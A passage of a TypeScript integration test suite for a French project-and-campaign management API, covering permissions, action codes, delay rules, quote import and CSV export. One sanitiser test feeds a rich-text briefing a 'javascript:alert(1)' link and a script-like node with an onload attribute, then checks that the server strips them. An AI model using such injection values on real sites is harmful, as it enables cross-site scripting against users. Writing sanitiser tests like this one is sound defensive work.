import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contract } from '@shared/contract';
import { projectListTargetSchema } from '@shared/contract/projects/projects';
import { MESSAGES } from '@shared/messages';
import { PROJECT_MESSAGES } from '@shared/messages/projects';
import { DEFAULT_DURATION_SECONDS } from '@shared/rules/projects';
import { insertTargetLines } from '../../src-server/features/projects/queries/targets';
import { startTestServer, type TestServer } from '../helpers/server';

const DAY = 86_400;
const YY = String(new Date().getUTCFullYear() % 100).padStart(2, '0');

let server: TestServer;
let csm: string;
let csmId: number;
let otherCsm: string;
let sales: string;
let salesAdmin: string;

beforeAll(async () => {
  server = await startTestServer();
  const session = await server.signIn(['CSM']);
  csm = session.accessToken.value;
  csmId = session.userId;
  otherCsm = (await server.signIn(['CSM_LEAD'])).accessToken.value;
  sales = (await server.signIn(['SALES'])).accessToken.value;
  salesAdmin = (await server.signIn(['SALES', 'ADMIN'])).accessToken.value;
});
afterAll(() => server?.close());

async function call(method: string, path: string, token: string, body?: unknown, expected = 200) {
  const response = await server.request(method, path, { token, body });
  expect(response.status, `${method} ${path} → ${JSON.stringify(response.body)}`).toBe(expected);
  return response.body;
}

async function createProject(name = 'Cardio HTA', clientName = 'Sanofa', lines = 3, token = csm) {
  return call('POST', '/project', token, { name, clientName, keyAccount: csmId, actor: 'Laboratoire', lines }, 201);
}

describe('projects', () => {
  it('creates a project with its lines, action codes from client, name and year, unique per project', async () => {
    const project = await createProject('Cardio HTA', 'Laboratoires Sanofa', 3);
    expect(project.status).toBe('draft');
    expect(project.keyAccount.id).toBe(csmId);
    expect(project.actionCode).toBe(`LABCARD${YY}-1.`);
    expect(project.targets.map((t: { actionCode: string }) => t.actionCode)).toEqual([`LABCARD${YY}-1.1`, `LABCARD${YY}-1.2`, `LABCARD${YY}-1.3`]);
    expect(project.targets.every((t: { status: string }) => t.status === '1. offline - préparation')).toBe(true);

    const first = await call('POST', `/project/${project.id}/newtarget`, csm, undefined, 201);
    const second = await call('POST', `/project/${project.id}/newtarget`, csm, undefined, 201);
    expect([first.actionCode, second.actionCode]).toEqual([`LABCARD${YY}-1.A1`, `LABCARD${YY}-1.A2`]);
    expect(first.position).toBe(3);

    // A code typed over another line's is refused.
    const taken = await server.request('PUT', `/target/${second.id}/properties`, { token: csm, body: { actionCode: first.actionCode } });
    expect(taken.status).toBe(409);
    expect(taken.body.errorMsg).toBe(PROJECT_MESSAGES.actionCodeTaken);
  });

  it('refuses a CSM that is not one', async () => {
    const response = await server.request('POST', '/project', {
      token: csm,
      body: { name: 'X', clientName: 'Y', keyAccount: 999_999, actor: 'DM', lines: 1 },
    });
    expect(response.status).toBe(400);
    expect(response.body.errorMsg).toBe(PROJECT_MESSAGES.unknownCsm);
  });

  it('SALES without ADMIN gets 403 User not allowed on every write of §6; SALES reads, comments; SALES+ADMIN writes', async () => {
    const project = await createProject('Sales check', 'Biogena', 1);
    const targetId = project.targets[0].id;
    const writes: [string, string, unknown?][] = [
      ['POST', '/project', { name: 'X', clientName: 'Y', keyAccount: csmId, actor: 'DM', lines: 1 }],
      ['PUT', '/project', { id: project.id, name: 'Renamed' }],
      ['DELETE', `/project/${project.id}`],
      ['POST', `/project/${project.id}/newtarget`],
      ['POST', `/project/${project.id}/target/${targetId}/duplicate`, { position: 0 }],
      ['DELETE', `/target/${targetId}`],
      ['PUT', `/target/${targetId}/unsetRel`],
      ['PUT', `/target/${targetId}/properties`, { populationSample: 'x' }],
      ['GET', `/project/estimate/DEV-1?name=X&actor=DM&keyAccount=${csmId}`],
      ['PUT', `/project/${project.id}/estimate/DEV-1`],
      ['POST', '/estimates/import', { csv: 'a' }],
    ];
    for (const [method, path, body] of writes) {
      const response = await server.request(method, path, { token: sales, body });
      expect(response.status, `${method} ${path}`).toBe(403);
      expect(response.body).toEqual({ errorMsg: MESSAGES.userNotAllowed });
    }
    expect((await call('GET', `/project/${project.id}`, sales)).name).toBe('Sales check');
    await call('POST', '/projects', sales, { status: ['draft'] });
    await call('POST', '/newcomment', sales, { projectId: project.id, content: 'Vu côté sales' }, 201);
    expect((await call('PUT', '/project', salesAdmin, { id: project.id, name: 'Renamed by admin' })).name).toBe('Renamed by admin');
  });

  it('lists 8 then more, default statuses draft and active, term on project and client, target filters, sort by name', async () => {
    const made = [];
    for (const [name, client] of [
      ['Oncologie sein', 'Pfizar'],
      ['Webinaire psoriasis', 'Biogena'],
      ['Capteur glycémie', 'MedTech Santé'],
    ]) {
      made.push(await createProject(name, client, 2));
    }
    // A new project is a draft, and the default list (no status sent) shows it: drafts and active projects.
    const before = await call('POST', '/projects', csm, { term: 'psoriasis' });
    expect(before.items.map((p: { id: number; status: string }) => [p.id, p.status])).toEqual([[made[1].id, 'draft']]);
    // Archived ones only when asked for; any status can be asked for.
    await call('PUT', '/project', csm, { id: made[1].id, status: 'archived' });
    expect((await call('POST', '/projects', csm, { term: 'psoriasis' })).items).toEqual([]);
    const archived = await call('POST', '/projects', csm, { term: 'psoriasis', projectStatus: ['archived'] });
    expect(archived.items.map((p: { id: number }) => p.id)).toEqual([made[1].id]);
    const every = await call('POST', '/projects', csm, { term: 'psoriasis', projectStatus: ['draft', 'active', 'archived'] });
    expect(every.items.map((p: { id: number }) => p.id)).toEqual([made[1].id]);
    for (const project of made) await call('PUT', '/project', csm, { id: project.id, status: 'active' });

    const byTerm = await call('POST', '/projects', csm, { term: 'PSORIASIS' });
    expect(byTerm.items.map((p: { name: string }) => p.name)).toEqual(['Webinaire psoriasis']);
    expect(byTerm.items[0].targets).toHaveLength(2);
    const byClientAccent = await call('POST', '/projects', csm, { term: 'medtech sante' });
    expect(byClientAccent.items.map((p: { name: string }) => p.name)).toEqual(['Capteur glycémie']);

    await call('PUT', `/target/${made[0].targets[0].id}/properties`, csm, { type: 'video', status: '2. en ligne' });
    const filtered = await call('POST', '/projects', csm, { type: ['video'], targetStatus: ['2. en ligne'], keyAccount: [csmId] });
    expect(filtered.items.map((p: { id: number }) => p.id)).toEqual([made[0].id]);

    const sorted = await call('POST', '/projects', csm, { orderBy: 'name', order: 'ASC', limit: 25 });
    const names = sorted.items.map((p: { name: string }) => p.name);
    expect(names).toEqual([...names].sort((a: string, b: string) => a.toLowerCase().localeCompare(b.toLowerCase())));
    const firstPage = await call('POST', '/projects', csm, { status: ['draft', 'active'] });
    expect(firstPage.items.length).toBeLessThanOrEqual(8);
    expect(firstPage.items[0].id).toBeGreaterThan(firstPage.items.at(-1).id);

    const badRange = await server.request('POST', '/projects', { token: csm, body: { startDate: { from: 200, to: 100 } } });
    expect(badRange.status).toBe(400);
  });

  it('never empties an action code: empty or null refused in French at the field', async () => {
    const project = await createProject('Codes vides', 'Sanofa', 1);
    const [target] = project.targets;
    for (const actionCode of ['', '   ', null]) {
      const refused = await server.request('PUT', `/target/${target.id}/properties`, { token: csm, body: { actionCode } });
      expect(refused.status, String(actionCode)).toBe(400);
      expect(refused.body).toEqual({ errorMsg: PROJECT_MESSAGES.actionCodeRequired, field: 'actionCode' });
    }
    expect((await server.request('GET', `/project/${project.id}`, { token: csm })).body.targets[0].actionCode).toBe(target.actionCode);
  });

  it('never empties a project name or client: refused in French at the field, the old one kept', async () => {
    const project = await createProject('Nom gardé', 'Sanofa', 1);
    for (const field of ['name', 'clientName'] as const) {
      const refused = await server.request('PUT', '/project', { token: csm, body: { id: project.id, [field]: '   ' } });
      expect(refused.status, field).toBe(400);
      expect(refused.body.field, field).toBe(field);
      expect(refused.body.errorMsg, field).toMatch(/^(Nom|Client)\b.* : /);
    }
    const kept = (await server.request('GET', `/project/${project.id}`, { token: csm })).body;
    expect([kept.name, kept.clientName]).toEqual(['Nom gardé', 'Sanofa']);
  });

  it('writes the 6,000 lines of a large quote (batched under the 65,535 bind parameters of one statement)', async () => {
    const project = await createProject('Gros devis', 'Sanofa', 1);
    const lines = Array.from({ length: 6000 }, (_, n) => ({ actionCode: `GROS-${n + 1}`, revenue: 10, comment: `ligne ${n + 1}` }));
    await server.database.db.transaction((tx) => insertTargetLines(tx, { id: project.id, actor: 'Laboratoire', keyAccountId: null }, lines));
    const [{ count, last }] = (
      (await server.database.db.execute(
        sql`SELECT count(*)::int AS count, max(position)::int AS last FROM targets WHERE project_id = ${project.id}`,
      )) as unknown as { rows: { count: number; last: number }[] }
    ).rows;
    expect({ count, last }).toEqual({ count: 6001, last: 6000 });
  });

  it("lists answer exactly the contract's shape though sent pre-serialised (no extra field, every value valid)", async () => {
    const project = await createProject('Shape check', 'Formes', 2);
    await call('PUT', '/project', csm, { id: project.id, status: 'active' });
    const [first, second] = project.targets;
    const advert = await call('POST', '/advert/create', csm, { advert: { name: 'Forme', type: 'post' } }, 201);
    await call('PUT', `/target/${first.id}/properties`, csm, {
      status: '2. en ligne',
      type: 'post',
      advertId: advert.id,
      populationCategory: 'Cardiologie',
      populationSample: 'Ciblage forme',
      populationSize: 1234,
      goal: { views: 15000 },
      startDate: 1_767_225_600,
      revenue: 1234.56,
      comment: 'une ligne',
    });
    await call('PUT', `/target/${second.id}/properties`, csm, { goal: { days: 30 }, keyAccount: null });
    await call('POST', '/newcomment', csm, { projectId: project.id, content: 'commenté' }, 201);

    const listed = await server.request('POST', '/projects', { token: csm, body: { term: 'shape check' } });
    expect(listed.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(listed.body).toStrictEqual(contract['projects.list'].response.parse(listed.body));
    const [item] = listed.body.items;
    expect(item.isProjectCommented).toBe(true);
    // The same project and targets (the columns the list shows) as the single-project call, which goes through the
    // response schema.
    const loaded = await call('GET', `/project/${project.id}`, csm);
    const { comments: _comments, briefing: _briefing, targets: loadedTargets, ...loadedItem } = loaded;
    expect(item).toStrictEqual({
      ...loadedItem,
      isProjectCommented: true,
      targets: loadedTargets.map((target: object) => projectListTargetSchema.parse(target)),
    });
    expect(Object.keys(item.targets[0]).sort()).toEqual(Object.keys(projectListTargetSchema.shape).sort());
    expect(item.targets[0]).toMatchObject({
      advertId: advert.id,
      populationSample: 'Ciblage forme',
      goal: { views: 15000, days: 0, shipments: 0 },
      startDate: 1_767_225_600,
    });
    expect(item.targets[1].goal).toEqual({ views: 0, days: 30, shipments: 0 });

    const targets = await server.request('POST', '/targets', { token: csm, body: { term: 'shape check', filters: { status: [] } } });
    expect(targets.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(targets.body).toStrictEqual(contract['targets.list'].response.parse(targets.body));
    // Status DESC: the line online first.
    expect(targets.body.items).toStrictEqual(loadedTargets.map((target: object) => ({ ...target, isProjectCommented: true })));
  });

  it('deletes a project with its targets and comments', async () => {
    const project = await createProject('To delete', 'Ipsène', 2);
    await call('POST', '/newcomment', csm, { projectId: project.id, content: 'bye' }, 201);
    await call('DELETE', `/project/${project.id}`, csm);
    expect((await server.request('GET', `/project/${project.id}`, { token: csm })).body.errorMsg).toBe(PROJECT_MESSAGES.projectNotFound);
    const result = (await server.database.db.execute(
      sql`SELECT count(*)::int AS count FROM targets WHERE project_id = ${project.id}`,
    )) as unknown as { rows: { count: number }[] };
    const [{ count }] = result.rows;
    expect(count).toBe(0);
  });
});

describe('targets', () => {
  it('applies the date, delay and revenue rules server-side and clears them on cancel', async () => {
    const project = await createProject('Rules', 'Servyer', 2);
    const [line, notification] = project.targets;
    const start = Date.UTC(2026, 2, 1) / 1000;
    const withStart = await call('PUT', `/target/${line.id}/properties`, csm, { startDate: start });
    expect(withStart.endDate).toBe(start + DEFAULT_DURATION_SECONDS);
    await call('PUT', `/target/${notification.id}/properties`, csm, { type: 'notification' });
    expect((await call('PUT', `/target/${notification.id}/properties`, csm, { startDate: start })).endDate).toBeNull();

    const late = await call('PUT', `/target/${line.id}/properties`, csm, { revenue: 9000, initialQuotationDate: start - 45 * DAY });
    expect(late.releaseDateDiff).toBe(45);
    // 9000 × (45 − 15) / 90 days
    expect(late.revenueDelayImpact).toBe(3000);
    expect(late.needsDelayReason).toBe(true);
    const reasoned = await call('PUT', `/target/${line.id}/properties`, csm, { delayReason: 'client_reactivity' });
    expect(reasoned.needsDelayReason).toBe(false);
    expect(reasoned.delayReason).toBe('client_reactivity');

    const cleared = await call('PUT', `/target/${line.id}/properties`, csm, { endDate: null });
    expect(cleared.endDate).toBeNull();
    expect(cleared.revenueDelayImpact).toBeNull();

    const cancelled = await call('PUT', `/target/${line.id}/properties`, csm, { status: '7. annulé' });
    expect([cancelled.status, cancelled.releaseDateDiff, cancelled.delayReason, cancelled.revenueDelayImpact]).toEqual([
      '7. annulé',
      null,
      null,
      null,
    ]);

    const intermediate = await call('PUT', `/target/${notification.id}/properties`, csm, {
      status: '3.2 stats intermédiaires',
      checkDate: start + 30 * DAY,
    });
    expect([intermediate.status, intermediate.checkDate]).toEqual(['3.2 stats intermédiaires', start + 30 * DAY]);

    const goal = await call('PUT', `/target/${notification.id}/properties`, csm, { goal: { shipments: 28000 } });
    expect(goal.goal).toEqual({ views: 0, days: 0, shipments: 28000 });
    const twoGoals = await server.request('PUT', `/target/${notification.id}/properties`, { token: csm, body: { goal: { views: 1, days: 2 } } });
    expect(twoGoals.status).toBe(400);
  });

  it('undoing a cancel gives the delay and its impact back; only a moved date asks for a delay reason', async () => {
    const project = await createProject('Retour', 'Servyer', 1);
    const [line] = project.targets;
    const start = Date.UTC(2026, 2, 1) / 1000;
    const late = await call('PUT', `/target/${line.id}/properties`, csm, { startDate: start, revenue: 9000, initialQuotationDate: start - 45 * DAY });
    expect([late.releaseDateDiff, late.revenueDelayImpact, late.needsDelayReason]).toEqual([45, 3000, true]);
    // Edits that move no date do not ask again (the grid would re-open 'Raison du retard' at each).
    expect((await call('PUT', `/target/${line.id}/properties`, csm, { comment: 'relancé' })).needsDelayReason).toBe(false);
    expect((await call('PUT', `/target/${line.id}/properties`, csm, { revenue: 12_000 })).needsDelayReason).toBe(false);
    expect((await call('PUT', `/target/${line.id}/properties`, csm, { startDate: start })).needsDelayReason).toBe(false);
    expect((await call('PUT', `/target/${line.id}/properties`, csm, { startDate: start + DAY })).needsDelayReason).toBe(true);

    const cancelled = await call('PUT', `/target/${line.id}/properties`, csm, { status: '7. annulé' });
    expect([cancelled.releaseDateDiff, cancelled.revenueDelayImpact]).toEqual([null, null]);
    const back = await call('PUT', `/target/${line.id}/properties`, csm, { status: '2. en ligne' });
    // 12000 × (46 − 15) / 89 days, to the cent
    expect([back.releaseDateDiff, back.revenueDelayImpact, back.needsDelayReason]).toEqual([46, 4179.78, false]);
  });

  it('a typed advert id follows the type mapping of Associer une publicité: a post action cannot take a notification', async () => {
    const project = await createProject('Types', 'Pfizar', 1);
    const [line] = project.targets;
    const notification = await call('POST', '/advert/create', csm, { advert: { name: 'Notif', type: 'notification' } }, 201);
    const story = await call('POST', '/advert/create', csm, { advert: { name: 'Histoire', type: 'story' } }, 201);
    const refused = await server.request('PUT', `/target/${line.id}/properties`, { token: csm, body: { type: 'post', advertId: notification.id } });
    expect(refused.status).toBe(400);
    expect(refused.body).toMatchObject({
      errorMsg: PROJECT_MESSAGES.advertWrongType('post', 'post', 'notification'),
      field: 'advertId',
    });
    expect((await call('GET', `/project/${project.id}`, csm)).targets[0].advertId).toBeNull();
    // A notification action searches story adverts (spec mapping); a flash notif, notification ones.
    expect((await call('PUT', `/target/${line.id}/properties`, csm, { type: 'notification', advertId: story.id })).advertId).toBe(story.id);
    const flash = await call('PUT', `/target/${line.id}/properties`, csm, { type: 'flash notif', advertId: notification.id });
    expect(flash.advertId).toBe(notification.id);
  });

  it('duplicates at a position, detaches the advert, answers the new-advert route, deletes', async () => {
    const project = await createProject('Dup', 'Pfizar', 3);
    const [a, b, c] = project.targets;
    const advert = await call('POST', '/advert/create', csm, { advert: { name: 'Dup', type: 'post' } }, 201);
    await call('PUT', `/target/${a.id}/properties`, csm, { advertId: advert.id, type: 'post', populationSample: 'Cardiologues' });
    const copy = await call('POST', `/project/${project.id}/target/${a.id}/duplicate`, csm, { position: 1 }, 201);
    expect([copy.position, copy.populationSample, copy.advertId, copy.actionCode]).toEqual([1, 'Cardiologues', null, `PFIDUP${YY}-1.A1`]);
    const reloaded = await call('GET', `/project/${project.id}`, csm);
    expect(reloaded.targets.map((t: { id: number }) => t.id)).toEqual([a.id, copy.id, b.id, c.id]);
    const wrongProject = await server.request('POST', `/project/${project.id + 1000}/target/${a.id}/duplicate`, {
      token: csm,
      body: { position: 0 },
    });
    expect(wrongProject.status).toBe(404);

    const detached = await call('PUT', `/target/${a.id}/unsetRel`, csm);
    expect([detached.advertId, detached.toolId]).toEqual([null, null]);

    const route = await call('POST', `/target/${b.id}/newadvert`, csm);
    expect(route).toEqual({ targetId: b.id, path: `/adverts/edit/project-${encodeURIComponent(`PFIZAR - Dup - ${b.actionCode}`)}` });

    await call('DELETE', `/target/${c.id}`, csm);
    expect((await server.request('DELETE', `/target/${c.id}`, { token: csm })).body.errorMsg).toBe(PROJECT_MESSAGES.targetNotFound);
  });

  it('flat list: default statuses, status DESC, filters and term; autocomplete', async () => {
    const project = await createProject('Flat list', 'Servyer', 4);
    const statuses = ['2. en ligne', '3.1 Urgent - Stats à sortir', '3. stats à sortir', '1. offline - préparation'];
    for (const [index, target] of project.targets.entries()) {
      await call('PUT', `/target/${target.id}/properties`, csm, { status: statuses[index], type: 'post', populationCategory: 'Cardiologie' });
    }
    const page = await call('POST', '/targets', csm, { term: 'flat list' });
    // Status DESC in the spec's order ("3.1" after "3."), offline left out by the default filter.
    expect(page.items.map((t: { status: string }) => t.status)).toEqual(['3.1 Urgent - Stats à sortir', '3. stats à sortir', '2. en ligne']);
    const all = await call('POST', '/targets', csm, { term: 'flat list', filters: { status: [] }, orderBy: 'status', order: 'ASC' });
    expect(all.items.map((t: { status: string }) => t.status)).toEqual([
      '1. offline - préparation',
      '2. en ligne',
      '3. stats à sortir',
      '3.1 Urgent - Stats à sortir',
    ]);
    const byCode = await call('POST', '/targets', csm, { term: project.targets[1].actionCode.toLowerCase() });
    expect(byCode.items.map((t: { id: number }) => t.id)).toEqual([project.targets[1].id]);
    const filtered = await call('POST', '/targets', csm, { filters: { projectName: ['Flat list'], status: ['2. en ligne'], keyAccount: [csmId] } });
    expect(filtered.items.map((t: { id: number }) => t.id)).toEqual([project.targets[0].id]);
    expect(filtered.items[0].isProjectCommented).toBe(false);

    expect(await call('GET', '/search/Project?field=name&term=flat&limit=5', csm)).toEqual(['Flat list']);
    expect(await call('GET', '/search/Target?field=populationCategory&term=cardio&limit=15', csm)).toContain('Cardiologie');
    expect((await server.request('GET', '/search/Project?field=type&term=x&limit=5', { token: csm })).status).toBe(400);
    expect((await server.request('GET', '/search/Project?field=name&term=x&limit=7', { token: csm })).status).toBe(400);
  });

  it('timeline answers the targets of the projects with their comments', async () => {
    const project = await createProject('Timeline', 'VetoPharm', 2);
    const comment = await call('POST', '/targets/comment', csm, { targetId: project.targets[0].id, content: 'Décalé' }, 201);
    const timeline = await call('POST', '/projects/timeline', csm, { ids: [project.id] });
    expect(timeline).toHaveLength(1);
    expect(timeline[0].targets[0].comments.map((c: { id: number }) => c.id)).toEqual([comment.id]);
  });
});

describe('comments and briefing', () => {
  it('only the author edits or deletes a comment', async () => {
    const project = await createProject('Comments', 'Biogena', 1);
    const mine = await call('POST', '/newcomment', csm, { projectId: project.id, content: 'Premier' }, 201);
    expect(mine.author).toBe(csmId);
    const refused = await server.request('PUT', `/comment/${mine.id}`, { token: otherCsm, body: { content: 'Pirate' } });
    expect(refused.status).toBe(403);
    expect(refused.body.errorMsg).toBe(PROJECT_MESSAGES.notCommentAuthor);
    expect((await server.request('DELETE', `/comment/${mine.id}`, { token: otherCsm })).status).toBe(403);
    expect((await call('PUT', `/comment/${mine.id}`, csm, { content: 'Modifié' })).content).toBe('Modifié');
    const loaded = await call('GET', `/project/${project.id}`, csm);
    expect([loaded.isProjectCommented, loaded.comments.map((c: { content: string }) => c.content)]).toEqual([true, ['Modifié']]);
    await call('DELETE', `/comment/${mine.id}`, csm);

    const targetComment = await call('POST', '/targets/comment', csm, { targetId: project.targets[0].id, content: 'Note' }, 201);
    expect((await server.request('DELETE', `/targets/comment/${targetComment.id}`, { token: otherCsm })).status).toBe(403);
    expect((await call('PUT', `/targets/comment/${targetComment.id}`, csm, { content: 'Note 2' })).content).toBe('Note 2');
    await call('DELETE', `/targets/comment/${targetComment.id}`, csm);
  });

  it('stores the briefing sanitised: unsafe links, styles and unknown nodes dropped', async () => {
    const project = await createProject('Briefing', 'Ipsène', 1);
    const text = (value: string, extra = {}) => ({
      type: 'text',
      text: value,
      format: 1,
      style: 'color: red',
      detail: 0,
      mode: 'normal',
      version: 1,
      ...extra,
    });
    const content = {
      root: {
        type: 'root',
        children: [
          { type: 'heading', tag: 'h2', children: [text('Enjeux client')] },
          {
            type: 'paragraph',
            children: [
              { type: 'link', url: 'javascript:alert(1)', children: [text('piège')] },
              { type: 'link', url: 'https://example.org', children: [text('site')] },
            ],
          },
          { type: 'list', listType: 'bullet', children: [{ type: 'listitem', value: 1, children: [text('point')] }] },
          { type: 'script-node', children: [text('gardé')], onload: 'x' },
        ],
      },
    };
    const created = await call('POST', '/briefing/create', sales, { projectId: project.id, content }, 201);
    const serialized = JSON.stringify(created.content);
    expect(serialized).not.toContain('javascript:');
    expect(serialized).not.toContain('color: red');
    expect(serialized).not.toContain('script-node');
    expect(serialized).toContain('https://example.org');
    expect(serialized).toContain('piège');
    expect(serialized).toContain('gardé');
    expect((await server.request('POST', '/briefing/create', { token: csm, body: { projectId: project.id, content } })).status).toBe(409);
    const updated = await call('PUT', `/briefing/${created.id}`, csm, {
      content: { root: { type: 'root', children: [{ type: 'paragraph', children: [text('v2')] }] } },
    });
    expect(JSON.stringify(updated.content)).toContain('v2');
    expect((await call('GET', `/project/${project.id}`, csm)).briefing.id).toBe(created.id);
  });
});

const QUOTE_FILE = [
  'Numéro de devis;Client;Libellé;Quantité;Prix unitaire HT;Date de signature',
  'DEV-2026-0042;Laboratoires Sanofa;Post sponsorisé cardio;2;4 500,00;12/01/2026',
  'DEV-2026-0042;Laboratoires Sanofa;Notification push;1;1200;12/01/2026',
  'DEV-2026-0043;Biogena;Mise en avant outil;1;800,50;',
].join('\r\n');

describe('estimates', () => {
  it('imports the quote export file, then creates a project whose targets are the quote lines', async () => {
    expect(await call('POST', '/estimates/import', salesAdmin, { csv: `\uFEFF${QUOTE_FILE}` })).toEqual({ quotes: 2, lines: 3 });
    const project = await call(
      'GET',
      `/project/estimate/DEV-2026-0042?name=${encodeURIComponent('Cardio 2026')}&actor=Laboratoire&keyAccount=${csmId}`,
      csm,
    );
    expect([project.clientName, project.estimateId]).toEqual(['Laboratoires Sanofa', 'DEV-2026-0042']);
    expect(project.targets.map((t: { revenue: number; type: string; actionCode: string }) => [t.revenue, t.type, t.actionCode])).toEqual([
      [9000, 'post', `LABCARD${YY}-1.1`],
      [1200, 'notification', `LABCARD${YY}-1.2`],
    ]);
    expect(project.targets[0].initialQuotationDate).toBe(Date.UTC(2026, 0, 12) / 1000);

    const missing = await server.request('GET', `/project/estimate/DEV-0000?name=X&actor=DM&keyAccount=${csmId}`, { token: csm });
    expect([missing.status, missing.body.errorMsg]).toEqual([404, 'No estimate found with this ID']);

    // Into an existing project: the numbering continues.
    const imported = await call('PUT', `/project/${project.id}/estimate/DEV-2026-0043`, csm);
    expect(imported.targets.map((t: { actionCode: string }) => t.actionCode)).toEqual([`LABCARD${YY}-1.1`, `LABCARD${YY}-1.2`, `LABCARD${YY}-1.3`]);
    expect(imported.targets[2].type).toBe('mise en avant');
    expect((await server.request('PUT', `/project/${project.id}/estimate/DEV-9`, { token: csm })).body.errorMsg).toBe(
      PROJECT_MESSAGES.estimateNotFound,
    );

    // A re-import replaces the quote's lines.
    expect(await call('POST', '/estimates/import', salesAdmin, { csv: QUOTE_FILE.split('\r\n').slice(0, 2).join('\n') })).toEqual({
      quotes: 1,
      lines: 1,
    });
  });

  it('refuses a file without the expected columns or with a bad line', async () => {
    const noColumns = await server.request('POST', '/estimates/import', { token: salesAdmin, body: { csv: 'a;b\n1;2' } });
    expect(noColumns.status).toBe(400);
    expect(noColumns.body.errorMsg).toContain(PROJECT_MESSAGES.estimateFileMissingColumns);
    const badLine = await server.request('POST', '/estimates/import', { token: salesAdmin, body: { csv: `${QUOTE_FILE}\r\nDEV-1;X;Y;deux;3;` } });
    expect(badLine.body.errorMsg).toBe(PROJECT_MESSAGES.estimateRowInvalid(5, 'Quantité', PROJECT_MESSAGES.estimateNumberExpected));
  });
});

describe('estimates from the invoicing API', () => {
  let api: Server;
  let apiServer: TestServer;
  let token: string;
  let keyAccount: number;
  const seen: string[] = [];

  beforeAll(async () => {
    api = createServer((request, response) => {
      seen.push(`${request.url} ${request.headers.authorization}`);
      if (request.url === '/v1/quotes/DEV-API-7') {
        response.setHeader('content-type', 'application/json');
        response.end(
          JSON.stringify({
            id: 'DEV-API-7',
            client: 'MedTech Santé',
            signedAt: '2026-02-03',
            lines: [{ label: 'Vidéo produit', quantity: 1, unitPrice: 5000 }],
          }),
        );
      } else if (request.url === '/v1/quotes/DEV-BROKEN') {
        response.end('not json');
      } else {
        response.statusCode = 404;
        response.end();
      }
    });
    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
    process.env.ESTIMATES_API_URL = `http://127.0.0.1:${(api.address() as AddressInfo).port}/v1/`;
    process.env.ESTIMATES_API_TOKEN = 'invoice-token';
    try {
      apiServer = await startTestServer();
    } finally {
      delete process.env.ESTIMATES_API_URL;
      delete process.env.ESTIMATES_API_TOKEN;
    }
    const session = await apiServer.signIn(['CSM']);
    token = session.accessToken.value;
    keyAccount = session.userId;
  });
  afterAll(async () => {
    await apiServer?.close();
    await new Promise((resolve) => api?.close(resolve));
  });

  it('creates the project from the API quote, with the bearer token; 404 is not found; garbage is a 502', async () => {
    const response = await apiServer.request('GET', `/project/estimate/DEV-API-7?name=Lancement&actor=DM&keyAccount=${keyAccount}`, { token });
    expect(response.status, JSON.stringify(response.body)).toBe(200);
    expect(response.body.clientName).toBe('MedTech Santé');
    expect(response.body.targets.map((t: { revenue: number; type: string }) => [t.revenue, t.type])).toEqual([[5000, 'video']]);
    expect(seen[0]).toBe('/v1/quotes/DEV-API-7 Bearer invoice-token');
    const missing = await apiServer.request('GET', `/project/estimate/DEV-NONE?name=X&actor=DM&keyAccount=${keyAccount}`, { token });
    expect([missing.status, missing.body.errorMsg]).toEqual([404, PROJECT_MESSAGES.estimateNotFound]);
    const broken = await apiServer.request('GET', `/project/estimate/DEV-BROKEN?name=X&actor=DM&keyAccount=${keyAccount}`, { token });
    expect([broken.status, broken.body.errorMsg]).toEqual([502, PROJECT_MESSAGES.estimateSourceFailed]);
  });
});

describe('streamed export', () => {
  const ROWS = 60_000;
  let projectId: number;

  beforeAll(async () => {
    const project = await createProject('Export volume', 'Servyer', 0);
    projectId = project.id;
    await server.database.db
      .execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, population_sample, goal_days, start_date, revenue, key_account_id)
      SELECT ${projectId}, n, 'EXP-' || n, '2. en ligne', 1, 'post', 'Échantillon "cardio"; test', 45, 1767225600 + n, 1234.5, ${csmId} FROM generate_series(1, ${ROWS}) n`);
  }, 120_000);

  it('streams every matching row in the export columns, in chunks as they are written', async () => {
    const response = await fetch(`${server.url}/targets/export`, {
      method: 'POST',
      headers: { authorization: `Bearer ${csm}`, 'content-type': 'application/json' },
      body: JSON.stringify({ filters: { projectName: ['Export volume'] }, orderBy: 'id', order: 'ASC' }),
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    const reader = response.body!.getReader();
    const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
    let chunks = 0;
    let text = '';
    let lines = 0;
    let firstLines = '';
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks += 1;
      text += decoder.decode(value, { stream: true });
      // Keep only the unfinished line: the test holds no more than the server.
      const cut = text.lastIndexOf('\r\n');
      if (cut >= 0) {
        const complete = text.slice(0, cut);
        if (firstLines.length < 2000) firstLines += complete.slice(0, 2000) + '\r\n';
        lines += complete.split('\r\n').length;
        text = text.slice(cut + 2);
      }
    }
    expect(lines).toBe(ROWS + 1);
    expect(chunks).toBeGreaterThan(10);
    const [header, first] = firstLines.split('\r\n');
    expect(header).toBe(
      '\uFEFFprojectName;clientName;advertId;advertSource;actionCode;status;keyAccount;type;populationCategory;populationSample;populationSize;goal;startDate;checkDate;endDate;actor;quotationSignedMonth;initialQuotationDate;revenue;revenueDelayImpact',
    );
    expect(first.split(';').slice(0, 12)).toEqual([
      'Export volume',
      'Servyer',
      '',
      '',
      'EXP-1',
      '2. en ligne',
      expect.any(String),
      'post',
      '',
      '"Échantillon ""cardio""',
      ' test"',
      '',
    ]);
    expect(first).toContain(';1.5 mois;01/01/2026;');
    expect(first).toContain(';1234.50;');
  }, 120_000);

  it('a client leaving in the middle ends the export, and the server answers on', async () => {
    const controller = new AbortController();
    const response = await fetch(`${server.url}/targets/export`, {
      method: 'POST',
      headers: { authorization: `Bearer ${csm}`, 'content-type': 'application/json' },
      body: JSON.stringify({ filters: { projectName: ['Export volume'] } }),
      signal: controller.signal,
    });
    const reader = response.body!.getReader();
    await reader.read();
    controller.abort();
    await reader.read().catch(() => undefined);
    const list = await call('POST', '/targets', csm, { filters: { projectName: ['Export volume'] }, limit: 5 });
    expect(list.items).toHaveLength(5);
    const limited = await server.request('POST', '/targets/export', { token: csm, body: { filters: { projectName: ['Export volume'] }, limit: 3 } });
    expect((limited.body as string).trim().split('\r\n')).toHaveLength(4);
  }, 120_000);
});

describe('export formatting', () => {
